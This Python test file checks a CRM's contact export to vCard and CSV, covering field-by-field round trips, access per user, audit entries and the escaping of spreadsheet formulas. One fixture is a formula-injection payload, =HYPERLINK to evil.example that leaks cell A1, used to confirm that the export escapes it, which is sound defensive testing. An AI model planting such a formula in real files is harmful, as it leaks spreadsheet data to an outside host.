"""Acceptance 3 of issue 13: what the export writes is what an import reads back.

The contact book goes out as vCard 4.0 and CSV; each file is read back here the
way the import reads it (vobject for the vCard, the csv module for the CSV) and
compared field by field with the database. To extend the round trip to the
import route, post each file to `POST /api/v1/import` as another rep with an
empty book and compare that rep's contacts with `expected` the same way.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import vobject
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from crm_pwa.db.audit import AuditEvent
from crm_pwa.db.user import User
from crm_pwa.domain.spreadsheet import unescape_cell
from tests.utils.factories import bearer, make_team, make_user

API = "/api/v1"
REP = "riley@example.com"
OTHER_REP = "sam@example.com"
MANAGER = "morgan@example.com"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

# The people a rep brings: scripts, punctuation that vCard and CSV both escape,
# lines inside a field, and names a spreadsheet would run as formulas.
PEOPLE: list[dict[str, Any]] = [
    {
        "name": "Zoë Ångström-Łukasiewicz",
        "company": "Fjord; Partners, AB",
        "title": 'Head of "Procurement"',
        "email": "zoe@fjord.example",
        "phone": "+46 8 123 456 78",
        "address": "Storgatan 1\n114 51 Stockholm\nSweden",
        "tags": ["Nordics", "golf", "board, advisory"],
        "connection_notes": "Met at Slush; two kids, loves sailing.\nAsk about the boat.",
        "kind": "partner",
        "tier": "high",
    },
    {
        "name": "王小明",
        "company": "深圳贸易",
        "email": "xiaoming@shenzhen.example",
        "phone": "+86 755 1234 5678",
        "tags": ["china"],
        "connection_notes": "Prefers WeChat",
    },
    {"name": HYPERLINK, "company": "+Plus Co", "title": "-minus", "phone": "(415) 555-0100"},
    {"name": "@handle", "connection_notes": "=1+1", "email": "a@b.example"},
    {"name": "'Tis Ltd", "do_not_contact": True, "kind": "supplier", "tier": "low"},
]
FIELDS = ("name", "company", "title", "email", "phone", "address", "tags", "connection_notes")


def _rep_with_book(client: TestClient, session: Session) -> dict[str, str]:
    make_user(session, REP)
    headers = bearer(client, REP)
    for person in PEOPLE:
        answer = client.post(f"{API}/contacts", json=person, headers=headers)
        assert answer.status_code == 201, answer.text
    return headers


def _book(client: TestClient, headers: dict[str, str]) -> dict[str, dict[str, Any]]:
    """The contacts as the database holds them, by name, in the fields a file carries."""
    items = client.get(f"{API}/contacts", params={"limit": 100}, headers=headers).json()["items"]
    return {item["name"]: {field: item[field] for field in FIELDS} for item in items}


def _vcard_fields(card: Any) -> dict[str, Any]:
    def one(name: str) -> str:
        lines = card.contents.get(name, [])
        return str(lines[0].value) if lines else ""

    tel = one("tel")
    assert tel == "" or tel.startswith("tel:+"), tel
    org = card.contents.get("org", [])
    adr = card.contents.get("adr", [])
    categories = card.contents.get("categories", [])
    return {
        "name": one("fn"),
        "company": org[0].value[0] if org else "",
        "title": one("title"),
        "email": one("email"),
        "phone": tel.removeprefix("tel:"),
        "address": adr[0].value.street if adr else "",
        "tags": list(categories[0].value) if categories else [],
        "connection_notes": one("note"),
    }


def read_back_vcard(text: str) -> dict[str, dict[str, Any]]:
    cards = list(vobject.readComponents(text))
    assert all(card.version.value == "4.0" for card in cards)
    return {fields["name"]: fields for fields in map(_vcard_fields, cards)}


def read_back_csv(text: str) -> dict[str, dict[str, Any]]:
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    read: dict[str, dict[str, Any]] = {}
    for row in rows:
        cells = {column: unescape_cell(value) for column, value in row.items()}
        read[cells["Name"]] = {
            "name": cells["Name"],
            "company": cells["Company"],
            "title": cells["Title"],
            "email": cells["Email"],
            "phone": cells["Phone"],
            "address": cells["Address"],
            "tags": [tag for tag in cells["Tags"].split(", ") if tag] if cells["Tags"] else [],
            "connection_notes": cells["Connection notes"],
        }
    return read


def _without_comma_tags(book: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    # The CSV joins tags with ", ": a tag holding ", " itself comes back as two.
    return {
        name: {**fields, "tags": [t for tag in fields["tags"] for t in tag.split(", ")]}
        for name, fields in book.items()
    }


def _audited_once(session: Session, file_format: str) -> None:
    """One audit entry for the export: who, the format, how many; nobody's name."""
    rep = session.exec(select(User).where(User.email == REP)).one()
    entries = session.exec(select(AuditEvent).where(AuditEvent.action == "contacts.exported")).all()
    assert [(e.user_id, e.object_id, e.detail) for e in entries] == [
        (rep.id, str(rep.id), {"format": file_format, "contacts": len(PEOPLE)})
    ]


def test_round_trip_vcard_gives_the_same_contacts_field_by_field(
    client: TestClient, session: Session
) -> None:
    headers = _rep_with_book(client, session)
    expected = _book(client, headers)
    answer = client.get(f"{API}/export/contacts.vcf", headers=headers)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/vcard")
    assert answer.headers["content-disposition"].startswith('attachment; filename="rapport-')
    assert read_back_vcard(answer.text) == expected
    assert len(expected) == len(PEOPLE)
    _audited_once(session, "vcard")


def test_round_trip_csv_gives_the_same_contacts_field_by_field(
    client: TestClient, session: Session
) -> None:
    headers = _rep_with_book(client, session)
    expected = _book(client, headers)
    answer = client.get(f"{API}/export/contacts.csv", headers=headers)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert read_back_csv(answer.text) == _without_comma_tags(expected)
    rows = {row["Name"]: row for row in csv.DictReader(io.StringIO(answer.text[1:]))}
    assert rows["''Tis Ltd"]["Do not contact"] == "yes"
    assert rows["''Tis Ltd"]["Kind"] == "supplier"
    _audited_once(session, "csv")


def test_formula_cells_are_escaped_when_the_book_is_exported_as_csv(
    client: TestClient, session: Session
) -> None:
    headers = _rep_with_book(client, session)
    text = client.get(f"{API}/export/contacts.csv", headers=headers).text
    cells = [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells
    for risky in ("+Plus Co", "-minus", "@handle", "=1+1", "+14155550100"):
        assert "'" + risky in cells, risky
    # Nothing a spreadsheet would run is left at the start of any cell.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_each_caller_exports_only_the_contacts_they_see(
    client: TestClient, session: Session
) -> None:
    team = make_team(session)
    make_user(session, REP, team=team)
    make_user(session, OTHER_REP, team=team)
    make_user(session, MANAGER, role="manager", team=team)
    make_user(session, "outsider@example.com")
    for email, name in (
        (REP, "Mine Only"),
        (OTHER_REP, "Theirs Only"),
        ("outsider@example.com", "Elsewhere"),
    ):
        client.post(f"{API}/contacts", json={"name": name}, headers=bearer(client, email))

    def names(email: str) -> set[str]:
        text = client.get(f"{API}/export/contacts.vcf", headers=bearer(client, email)).text
        return {card.fn.value for card in vobject.readComponents(text)}

    assert names(REP) == {"Mine Only"}
    assert names(OTHER_REP) == {"Theirs Only"}
    assert names(MANAGER) == {"Mine Only", "Theirs Only"}
    for path in ("contacts.vcf", "contacts.csv"):
        assert client.get(f"{API}/export/{path}").status_code == 401


def test_an_empty_book_exports_an_empty_vcard_and_a_header_only_csv(
    client: TestClient, session: Session
) -> None:
    make_user(session, REP)
    headers = bearer(client, REP)
    assert client.get(f"{API}/export/contacts.vcf", headers=headers).text == ""
    csv_text = client.get(f"{API}/export/contacts.csv", headers=headers).text
    assert list(csv.reader(io.StringIO(csv_text[1:]))) == [
        [
            "Name",
            "Company",
            "Title",
            "Email",
            "Phone",
            "Address",
            "Tags",
            "Connection notes",
            "Kind",
            "Tier",
            "Do not contact",
        ]
    ]


def test_round_trip_vcard_through_the_import_gives_another_rep_the_same_contacts(
    client: TestClient, session: Session
) -> None:
    headers = _rep_with_book(client, session)
    expected = _book(client, headers)
    make_user(session, OTHER_REP)
    other = bearer(client, OTHER_REP)
    assert _book(client, other) == {}
    vcard = client.get(f"{API}/export/contacts.vcf", headers=headers).content
    report = client.post(
        f"{API}/import", files={"file": ("book.vcf", vcard, "text/vcard")}, headers=other
    )
    assert report.status_code == 200, report.text
    assert (report.json()["created"], report.json()["errors"]) == (len(PEOPLE), [])
    assert _book(client, other) == expected


def test_round_trip_csv_through_the_import_gives_another_rep_the_same_contacts(
    client: TestClient, session: Session
) -> None:
    headers = _rep_with_book(client, session)
    expected = _without_comma_tags(_book(client, headers))
    make_user(session, OTHER_REP)
    other = bearer(client, OTHER_REP)
    book = client.get(f"{API}/export/contacts.csv", headers=headers).content
    report = client.post(
        f"{API}/import", files={"file": ("book.csv", book, "text/csv")}, headers=other
    )
    assert report.status_code == 200, report.text
    assert (report.json()["created"], report.json()["errors"]) == (len(PEOPLE), [])
    assert _book(client, other) == expected
